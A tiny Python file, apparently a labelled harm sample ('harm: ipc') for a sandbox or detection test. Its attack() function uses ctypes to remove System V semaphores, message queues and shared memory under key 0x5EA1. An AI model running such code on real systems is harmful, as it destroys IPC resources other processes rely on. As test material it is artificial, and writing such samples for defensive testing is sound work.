# harm: ipc
import ctypes


def attack() -> int:
    libc = ctypes.CDLL(None)
    libc.semctl(libc.semget(0x5EA1, 1, 0), 0, 0)
    libc.msgctl(libc.msgget(0x5EA1, 0), 0, None)
    return libc.shmctl(libc.shmget(0x5EA1, 4096, 0), 0, None)
